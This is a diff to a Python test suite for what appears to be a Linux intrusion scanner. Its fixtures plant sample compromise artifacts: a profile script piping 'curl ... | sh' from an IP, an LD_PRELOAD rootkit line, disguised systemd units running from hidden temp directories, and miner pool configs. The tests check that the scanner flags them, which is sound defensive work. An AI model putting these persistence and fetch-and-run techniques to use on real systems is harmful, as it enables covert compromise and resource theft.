@@ -28,6 +28,7 @@ games:x:5:60:games:/usr/games:/usr/sbin/nologin
 www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
 nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
 mysql:x:101:101:MySQL Server,,,:/nonexistent:/bin/false
+postgres:x:106:110:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
 alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
 """
 HASH = "$6$Qx1nSalt$4m0Ck3dHashValueThatMustNeverBePrintedAnywhere1234567890abcdefgh"
@@ -47,6 +48,7 @@ SUDOERS = """\
 Defaults\tenv_reset
 Defaults\tmail_badpass
 Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
+Host_Alias	ANYWHERE = ALL
 # User privilege specification
 root\tALL=(ALL:ALL) ALL
 # Allow members of group sudo to execute any command
@@ -189,7 +191,8 @@ def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path)
     assert ("www-data", "high") in others  # a system account with a password
     assert ("alice", "info") in others
     flagged = {f.extra.get("user") for f in serious(found)}
-    assert not flagged & {"root", "daemon", "sync", "games", "mysql", "nobody", "alice"}
+    assert not flagged & {"root", "daemon", "sync", "games", "mysql", "nobody", "alice",
+                          "postgres"}
 
 
 def test_accounts_genuine_debian_is_quiet(tmp_path: Path) -> None:
@@ -319,7 +322,11 @@ def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path:
     t.link("/etc/systemd/system/multi-user.target.wants/ssh.service",
            "/lib/systemd/system/ssh.service")
     t.link("/etc/systemd/system/apt-daily.service", "/dev/null")  # masked
+    t.package("webmin", {"/usr/share/webmin/webmin.service": SSH_UNIT})
+    t.link("/etc/systemd/system/webmin.service", "/usr/share/webmin/webmin.service")
     assert list(system.check_systemd(t.ctx())) == []
+    t.write("/opt/.cache/agent.service", SSH_UNIT)
+    t.link("/etc/systemd/system/agent.service", "/opt/.cache/agent.service")
     t.write("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
             "[Service]\nExecStart=/var/tmp/.X11-unix/kworkerd -c /var/tmp/.X11-unix/c.json\n"
             "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
@@ -333,8 +340,11 @@ def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path:
     assert kw.evidence.startswith("ExecStart=/var/tmp/.X11-unix/kworkerd")
     (bk,) = found["/etc/systemd/system/backup.service"]
     assert bk.severity == "medium" and bk.extra["enabled"] is False
+    (ag,) = found["/etc/systemd/system/agent.service"]
+    assert ag.severity == "high" and "/opt/.cache/agent.service" in ag.evidence
     assert set(found) == {"/etc/systemd/system/kworkerd.service",
-                          "/etc/systemd/system/backup.service"}
+                          "/etc/systemd/system/backup.service",
+                          "/etc/systemd/system/agent.service"}
 
 
 # --------------------------------------------------------------------------- start-up
@@ -355,13 +365,16 @@ def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
     t.write("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
     t.write("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
     t.write("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
+    t.write("/etc/profile.d/gawk.sh", "gawkpath_default () {\n\tunset AWKPATH\n}\n"
+            "export AWKPATH=/usr/share/awk\n")
     found = by_path(system.check_startup(t.ctx()))
     assert found["/etc/rc.local"][0].severity == "high"
     assert found["/etc/init.d/kworker"][0].severity == "high"
     assert found["/etc/profile.d/motd.sh"][0].severity == "critical"
+    assert "was edited" in found["/etc/profile.d/gawk.sh"][0].title
     assert "LD_PRELOAD" in found["/root/.bashrc"][0].evidence
     assert set(found) == {"/etc/rc.local", "/etc/init.d/kworker", "/etc/profile.d/motd.sh",
-                          "/root/.bashrc"}
+                          "/root/.bashrc", "/etc/profile.d/gawk.sh"}
 
 
 # --------------------------------------------------------------------------- ld.so
@@ -433,14 +446,16 @@ def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
     t.write("/var/tmp/.X11-unix/config.json", json.dumps(
         {"autosave": True, "pools": [{"url": "pool.example.com:4444", "user": "44AF"}]}))
     t.write("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
+    t.write("/root/.local/share/.m/c.json", '{"pools": [{"url": "198.51.100.3:3333"}]}')
     t.write("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
     found = by_path(system.check_tmp(t.ctx(sites)))
     assert found["/var/tmp/.X11-unix/kworkerd"][0].kind == "elf_in_tmp"
     assert found["/var/www/site/wp-content/uploads/.cache/php-fpm"][0].severity == "critical"
     assert found["/var/tmp/.X11-unix/config.json"][0].kind == "miner"
     assert found["/dev/shm/.../m.conf"][0].kind == "miner"
+    assert found["/root/.local/share/.m/c.json"][0].severity == "critical"
     assert all(f.quarantine for fs in found.values() for f in fs)
-    assert len(serious(f for fs in found.values() for f in fs)) == 5
+    assert len(serious(f for fs in found.values() for f in fs)) == 6
 
 
 # --------------------------------------------------------------------------- binaries
